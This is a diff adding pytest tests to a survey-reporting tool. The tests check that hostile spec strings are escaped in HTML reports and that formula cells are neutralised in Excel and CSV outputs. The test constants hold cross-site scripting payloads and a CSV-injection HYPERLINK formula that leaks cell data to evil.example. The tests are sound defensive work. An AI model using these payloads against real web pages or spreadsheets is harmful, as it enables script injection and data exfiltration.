@@ -297,3 +297,88 @@ def test_an_absolute_folder_or_a_symlink_is_refused(project, tmp_path):
         assert proc.returncode == 2 and why in err, out + err
         assert (unrelated / "keep.txt").read_text() == "mine" and len(list(unrelated.iterdir())) == 1
     link.unlink()
+
+
+# ---------------------------------------------------------------------------------------------
+# hostile spec strings in the outputs
+# ---------------------------------------------------------------------------------------------
+HOSTILE_TITLE = '<script>alert("title")</script>'
+HOSTILE_SOURCE = '[click](javascript:alert(1)) <img src=x onerror=alert(2)>'
+HOSTILE_PERIOD = '=HYPERLINK("http://evil.example/?"&A1,"2024")'
+
+
+def test_hostile_spec_strings_are_text_in_the_html_report(project, tmp_path):
+    """The real ingest and summary notebooks' first lines quote the spec's title, period and
+    source: in the HTML report they are text, never markup or a javascript: link."""
+    from survey.spec import load_yaml
+
+    raw = load_yaml((project / "specs" / "synthetic.yaml").read_text())  # YAML 1.2: `on:` is a key
+    raw.update(title=HOSTILE_TITLE, source=HOSTILE_SOURCE, period="<b onmouseover=alert(3)>2024</b>",
+               licence="<iframe src=javascript:alert(4)>")
+    for f in raw["files"].values():
+        f["path"] = str(project / "data" / "synthetic" / Path(f["path"]).name)
+    spec = tmp_path / "hostile.yaml"
+    spec.write_text(yaml.safe_dump(raw, sort_keys=False))
+    params = tmp_path / "hostile-run.yaml"
+    params.write_text(yaml.safe_dump({"name": "hostile-run", "spec": str(spec), "output_dir":
+                                      str(tmp_path / "out" / "hostile-run"), "notebooks": ["ingest"]}))
+    env = dict(os.environ, PYTHONPATH=str(ROOT / "src"))
+    proc = subprocess.run([sys.executable, "-m", "survey.cli", "run", str(params), "--root", str(project),
+                           "--notebook-dir", str(ROOT / "notebooks"), "--no-progress"], cwd=project, env=env,
+                          capture_output=True, text=True, timeout=600)
+    assert proc.returncode == 0, proc.stdout + proc.stderr
+    page = (tmp_path / "out" / "hostile-run" / "ingest.html").read_text()
+    assert "&lt;script&gt;alert(&quot;title&quot;)&lt;/script&gt;" in page or \
+        "&lt;script&gt;alert(\"title\")&lt;/script&gt;" in page
+    assert 'alert("title")</script>' not in page and "<b onmouseover" not in page
+    for cell in ("<script>alert", "<img src=x", "<iframe", 'href="javascript:'):
+        assert cell not in page, cell
+
+
+def test_markdown_outputs_are_made_safe_when_the_report_is_written(tmp_path):
+    """Even Markdown a notebook displayed without :func:`survey.report.md` (raw HTML, a
+    javascript: link) is text in the report."""
+    from survey.report import notebook_to_html
+
+    nb = nbformat.v4.new_notebook()
+    cell = nbformat.v4.new_code_cell("x")
+    cell.outputs = [nbformat.v4.new_output("display_data", data={
+        "text/markdown": f"**{HOSTILE_TITLE}** {HOSTILE_SOURCE}", "text/plain": "x"})]
+    nb.cells = [cell]
+    nbformat.write(nb, tmp_path / "r.ipynb")
+    page = notebook_to_html(tmp_path / "r.ipynb", tmp_path / "r.html").read_text()
+    assert "<script>alert" not in page and "<img src=x" not in page and 'href="javascript:' not in page
+    assert "&lt;script&gt;" in page and "#blocked:" in page
+
+
+def test_formula_cells_are_neutralized_in_the_workbook_and_csv(tmp_path):
+    """OWASP CSV injection: text cells starting with = + - @ tab or CR get a leading quote in the
+    Excel workbook and the CSV files; numbers (negative ones too) stay numbers."""
+    import openpyxl
+    import pandas as pd
+
+    from survey.report import neutral_frame, write_workbook
+
+    table = pd.DataFrame({"indicator": ["prevalence"] * 4, "survey": ["s"] * 4,
+                          "period": [HOSTILE_PERIOD, "+1", "@SUM(A1)", "2024"],
+                          "crime_label": ["-2+3", "\tx", "\rcmd", "burglary"],
+                          "estimate": [-1.5, 2.0, 3.0, 4.0], "n": [10, 20, 30, 40], "cap_rule": ["", "", "", ""]})
+    meta = {"title": "=1+1", "survey": "s", "source": "@cmd", "licence": "-x", "definitions": {}}
+    path = write_workbook(table, meta, tmp_path / "t.xlsx", run={"name": "r", "parameters": {"period": "=x"}})
+    wb = openpyxl.load_workbook(path)
+    ws = wb["prevalence"]
+    header = [c.value for c in ws[1]]
+    rows = [dict(zip(header, [c.value for c in r])) for r in ws.iter_rows(min_row=2)]
+    assert [r["period"] for r in rows] == ["'" + HOSTILE_PERIOD, "'+1", "'@SUM(A1)", "2024"]
+    labels = [r["crime_label"] for r in rows]  # (openpyxl reads a CR back as a line feed)
+    assert labels[:2] == ["'-2+3", "'\tx"] and labels[2].startswith("'") and labels[3] == "burglary"
+    assert [r["estimate"] for r in rows] == [-1.5, 2.0, 3.0, 4.0]  # numbers untouched
+    notes = {r[0].value: r[1].value for r in wb["notes"].iter_rows(min_row=2, max_row=6)}
+    assert notes["Period"] == "'" + HOSTILE_PERIOD and notes["Source"] == "'@cmd" and notes["Licence"] == "'-x"
+    assert all(not isinstance(c.value, str) or not c.value.startswith(("=", "+", "-", "@"))
+               for sheet in wb for row in sheet.iter_rows() for c in row)
+    csv = tmp_path / "t.csv"
+    neutral_frame(table.drop(index=2)).to_csv(csv, index=False)
+    back = pd.read_csv(csv)
+    assert back["period"].tolist() == ["'" + HOSTILE_PERIOD, "'+1", "2024"]
+    assert back["estimate"].tolist() == [-1.5, 2.0, 4.0]
